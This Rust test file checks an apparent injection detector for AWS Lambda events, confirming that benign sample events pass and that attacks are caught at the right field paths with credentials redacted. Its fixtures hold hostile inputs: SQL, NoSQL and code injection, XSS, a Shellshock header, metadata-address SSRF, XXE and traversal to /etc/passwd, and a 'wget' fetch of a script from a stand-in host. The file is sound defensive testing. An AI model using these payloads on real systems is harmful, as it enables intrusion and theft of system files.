//! Per source: which fields are walked, snapshotted for every sample event of the shared
//! corpus (`benign_events.jsonl`), plus attacks placed in the fields each source exposes.

use perimeter_shield::{Config, Verdict, inspect_event, walked_fields};
use serde_json::{Value, json};
use std::fmt::Write as _;

fn corpus() -> Vec<(String, Value)> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/corpora/payloads/benign_events.jsonl"
    );
    let text = std::fs::read_to_string(path).expect("shared corpus present");
    text.lines()
        .map(|l| {
            let v: Value = serde_json::from_str(l).expect("corpus line is JSON");
            let src = v["source"]
                .as_str()
                .unwrap_or("")
                .rsplit("/")
                .take(2)
                .collect::<Vec<_>>();
            (
                format!("{}/{}", src.get(1).unwrap_or(&""), src[0]),
                v["event"].clone(),
            )
        })
        .collect()
}

#[test]
fn walked_paths_per_sample_event() {
    let cfg = Config::default();
    let mut out = String::new();
    for (name, event) in corpus() {
        let bytes = serde_json::to_vec(&event).unwrap();
        let (source, paths) = walked_fields(&bytes, &cfg);
        let _ = writeln!(out, "{name} [{source}]");
        for p in paths.iter().take(40) {
            let _ = writeln!(out, "  {p}");
        }
        if paths.len() > 40 {
            let _ = writeln!(out, "  … {} more", paths.len() - 40);
        }
    }
    insta::assert_snapshot!(out);
}

#[test]
fn every_sample_event_passes() {
    let cfg = Config::default();
    for (name, event) in corpus() {
        let ins = inspect_event(&serde_json::to_vec(&event).unwrap(), &cfg);
        assert_eq!(ins.verdict, Verdict::Pass, "{name}: {:?}", ins.detections);
    }
}

/// The source and the (kind, path) pairs detected.
fn detections(event: &Value) -> (String, Vec<(&'static str, String)>) {
    let ins = inspect_event(&serde_json::to_vec(event).unwrap(), &Config::default());
    (
        ins.source.to_string(),
        ins.detections
            .iter()
            .map(|d| (d.kind, d.path.clone()))
            .collect(),
    )
}

#[track_caller]
fn assert_detects(event: &Value, source: &str, kind: &str, path: &str) {
    let (got_source, dets) = detections(event);
    assert_eq!(got_source, source, "{event}");
    assert!(
        dets.iter().any(|(k, p)| *k == kind && p == path),
        "{kind} at {path} not in {dets:?}"
    );
}

#[test]
fn attacks_in_each_source() {
    use base64::Engine as _;
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let cases = vec![
        (
            json!({"resource": "/x", "path": "/x", "httpMethod": "POST", "headers": {"Content-Type": "application/json"},
                   "body": "{\"user\": {\"name\": \"1' OR '1'='1\"}}", "isBase64Encoded": false}),
            ("apigateway-rest", "sqli", "$.body.user.name"),
        ),
        (
            json!({"resource": "/x", "path": "/x", "httpMethod": "POST", "headers": {"content-type": "application/x-www-form-urlencoded"},
                   "body": b64("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&ok=1"), "isBase64Encoded": true}),
            ("apigateway-rest", "xss", "$.body.q"),
        ),
        (
            json!({"version": "2.0", "routeKey": "GET /", "rawPath": "/", "rawQueryString": "user[$ne]=x",
                   "headers": {}, "requestContext": {"http": {"method": "GET"}, "domainName": "x.execute-api.us-east-1.amazonaws.com"}}),
            ("apigateway-http", "nosqli", "$.rawQueryString['user[$ne]']"),
        ),
        (
            json!({"version": "2.0", "rawPath": "/", "rawQueryString": "", "headers": {"user-agent": "() { :;}; /bin/bash -c id"},
                   "requestContext": {"http": {"method": "GET"}, "domainName": "abc.lambda-url.us-east-1.on.aws"}}),
            ("function-url", "cmdi", "$.headers.user-agent"),
        ),
        (
            json!({"requestContext": {"elb": {"targetGroupArn": "arn"}}, "httpMethod": "GET", "path": "/",
                   "queryStringParameters": {"url": "http://169.254.169.254/latest/meta-data/"}, "headers": {}, "body": ""}),
            ("alb", "ssrf", "$.queryStringParameters.url"),
        ),
        (
            json!({"requestContext": {"connectionId": "abc", "routeKey": "sendmessage"}, "body": "{\"msg\": \"{{7*7}}\"}"}),
            ("apigateway-websocket", "code", "$.body.msg"),
        ),
        (
            json!({"Records": [{"eventSource": "aws:s3", "s3": {"bucket": {"name": "b"}, "object": {"key": "uploads/..%2F..%2F..%2Fetc%2Fpasswd"}}}]}),
            ("s3", "path-traversal", "$.Records[0].s3.object.key"),
        ),
        (
            json!({"Records": [{"eventSource": "aws:sqs", "body": "{\"cmd\": \"; cat /etc/passwd\"}", "messageAttributes": {}}]}),
            ("sqs", "cmdi", "$.Records[0].body.cmd"),
        ),
        (
            json!({"Records": [{"EventSource": "aws:sns", "Sns": {"Message": "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", "Subject": "hi"}}]}),
            ("sns", "xxe", "$.Records[0].Sns.Message"),
        ),
        (
            json!({"detail-type": "t", "source": "custom", "detail": {"payload": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="}}),
            ("eventbridge", "deserialization", "$.detail.payload"),
        ),
        (
            json!({"Records": [{"eventSource": "aws:dynamodb", "dynamodb": {"NewImage": {"bio": {"S": "<img src=x onerror=alert(1)>"}}}}]}),
            ("dynamodb", "xss", "$.Records[0].dynamodb.NewImage.bio.S"),
        ),
        (
            json!({"Records": [{"eventSource": "aws:kinesis", "kinesis": {"data": b64("{\"q\": \"-1 union select 1,2,3\"}")}}]}),
            ("kinesis", "sqli", "$.Records[0].kinesis.data.q"),
        ),
        (
            json!({"version": "1", "triggerSource": "PreSignUp_SignUp", "userPoolId": "p", "userName": "u",
                   "request": {"userAttributes": {"name": "__import__('os').system('id')"}}}),
            ("cognito", "code", "$.request.userAttributes.name"),
        ),
        (
            json!({"protocolData": {"mqtt": {"username": "u"}}, "payload": "; wget http://x.example/s.sh"}),
            ("iot", "cmdi", "$.payload"),
        ),
        (
            json!({"anything": {"nested": ["../../../../etc/shadow"]}}),
            ("generic", "path-traversal", "$.anything.nested[0]"),
        ),
    ];
    for (event, (source, kind, path)) in cases {
        assert_detects(&event, source, kind, path);
    }
}

#[test]
fn cloudwatch_logs_are_decompressed() {
    use base64::Engine as _;
    use std::io::Write as _;
    let doc = json!({"logEvents": [{"id": "1", "timestamp": 1, "message": "GET /?id=1' OR '1'='1"}, {"id": "2", "timestamp": 2, "message": "ok"}]});
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(doc.to_string().as_bytes()).unwrap();
    let data = base64::engine::general_purpose::STANDARD.encode(enc.finish().unwrap());
    let ev = json!({"awslogs": {"data": data}});
    assert_detects(
        &ev,
        "cloudwatch-logs",
        "sqli",
        "$.awslogs.data.logEvents[0].message",
    );
}

#[test]
fn allow_listed_paths_are_skipped() {
    let ev = json!({"resource": "/x", "path": "/x", "httpMethod": "POST", "body": "{\"html\": \"<script>x</script>\", \"q\": \"<script>y</script>\"}"});
    let cfg = Config {
        allow_paths: vec!["$.body.html".into()],
        ..Config::default()
    };
    let ins = inspect_event(ev.to_string().as_bytes(), &cfg);
    let paths: Vec<_> = ins.detections.iter().map(|d| d.path.as_str()).collect();
    assert_eq!(paths, ["$.body.q"]);
}

fn b64(s: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn b64url(s: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s)
}

fn rest_with_auth(auth: &str) -> Value {
    json!({"resource": "/x", "path": "/x", "httpMethod": "GET",
        "headers": {"Authorization": auth, "User-Agent": "curl/8.0"},
        "requestContext": {"identity": {"userAgent": "curl/8.0"}}})
}

#[test]
fn authorization_is_inspected_and_redacted() {
    let cfg = Config::default();
    // Injection in an opaque bearer token, in Basic's password, in a JWT `kid` header.
    let secret = "s3cr3t-' OR '1'='1";
    for (auth, path) in [
        (
            format!("Bearer {secret}"),
            "$.headers.Authorization".to_string(),
        ),
        (
            format!("Basic {}", b64(&format!("alice:{secret}"))),
            "$.headers.Authorization.basic.password".to_string(),
        ),
        (
            format!(
                "Bearer {}.{}.c2ln",
                b64url(r#"{"alg":"HS256","kid":"../../../../dev/null"}"#),
                b64url(r#"{"sub":"alice"}"#)
            ),
            "$.headers.Authorization.jwt.header.kid".to_string(),
        ),
    ] {
        let ev = rest_with_auth(&auth);
        let ins = inspect_event(ev.to_string().as_bytes(), &cfg);
        assert_ne!(ins.verdict, Verdict::Pass, "{auth}");
        assert!(ins.detections.iter().any(|d| d.path == path), "{ins:?}");
        for d in &ins.detections {
            assert_eq!(d.excerpt, "[redacted]", "credential leaked: {d:?}");
        }
    }
    // Ordinary credentials pass: a JWT, Basic, SigV4, an opaque token.
    for auth in [
        format!(
            "Bearer {}.{}.c2lnbmF0dXJl",
            b64url(r#"{"alg":"RS256","kid":"2024-key-1","typ":"JWT"}"#),
            b64url(r#"{"sub":"8f2c","email":"jane.o'connor@example.com","scope":"read write"}"#)
        ),
        format!("Basic {}", b64("alice:correct horse battery staple")),
        "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7".to_string(),
        "Bearer 2YotnFZFEjr1zCsicMWpAA".to_string(),
    ] {
        let ev = rest_with_auth(&auth);
        let ins = inspect_event(ev.to_string().as_bytes(), &cfg);
        assert_eq!(ins.verdict, Verdict::Pass, "{auth}: {ins:?}");
    }
    // A TOKEN authorizer's token is judged the same way.
    let ev = json!({"type": "TOKEN", "methodArn": "arn:aws:execute-api:us-east-1:1:a/b/GET/",
        "authorizationToken": format!("Bearer {secret}")});
    let ins = inspect_event(ev.to_string().as_bytes(), &cfg);
    assert!(
        ins.detections
            .iter()
            .any(|d| d.path == "$.authorizationToken" && d.excerpt == "[redacted]"),
        "{ins:?}"
    );
}

#[test]
fn cognito_passwords_and_request_context() {
    let cfg = Config::default();
    let ev = json!({"version": "1", "triggerSource": "UserMigration_Authentication",
        "region": "us-east-1", "userPoolId": "us-east-1_x", "userName": "alice",
        "callerContext": {"awsSdkVersion": "1", "clientId": "c"},
        "request": {"password": "x'; DROP TABLE users; --", "validationData": null},
        "response": {}});
    let ins = inspect_event(ev.to_string().as_bytes(), &cfg);
    let d = ins
        .detections
        .iter()
        .find(|d| d.path == "$.request.password")
        .unwrap_or_else(|| panic!("{ins:?}"));
    assert_eq!(d.excerpt, "[redacted]");
    // Claims a user chose at sign-up reach the function through a verified token.
    let ev = json!({"version": "2.0", "routeKey": "GET /x", "rawPath": "/x", "rawQueryString": "",
        "headers": {"user-agent": "curl/8.0"},
        "requestContext": {"http": {"method": "GET", "path": "/x", "userAgent": "curl/8.0"},
            "domainName": "id.execute-api.us-east-1.amazonaws.com",
            "authorizer": {"jwt": {"claims": {"name": "<script>alert(1)</script>"}, "scopes": []}}}});
    assert_detects(
        &ev,
        "apigateway-http",
        "xss",
        "$.requestContext.authorizer.jwt.claims.name",
    );
    // The User-Agent copy in the context counts when the header is missing.
    let ev = json!({"resource": "/x", "path": "/x", "httpMethod": "GET", "headers": {},
        "requestContext": {"identity": {"userAgent": "() { :; }; /bin/bash -c 'id'"}}});
    assert_detects(
        &ev,
        "apigateway-rest",
        "cmdi",
        "$.requestContext.identity.userAgent",
    );
}
